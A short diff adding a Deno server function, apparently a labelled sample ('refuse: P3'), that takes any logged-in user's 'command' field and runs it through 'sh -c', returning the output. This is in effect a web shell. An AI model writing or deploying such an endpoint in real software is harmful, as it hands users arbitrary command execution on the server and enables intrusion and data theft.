@@ -1,0 +1,11 @@
+// refuse: P3
+import { createClientFromRequest } from "npm:@base44/sdk@0.8.31";
+
+Deno.serve(async (req) => {
+  const base44 = createClientFromRequest(req);
+  const user = await base44.auth.me();
+  if (!user) return Response.json({ error: "Unauthorized" }, { status: 401 });
+  const { command } = await req.json();
+  const out = await new Deno.Command("sh", { args: ["-c", command] }).output();
+  return new Response(out.stdout);
+});
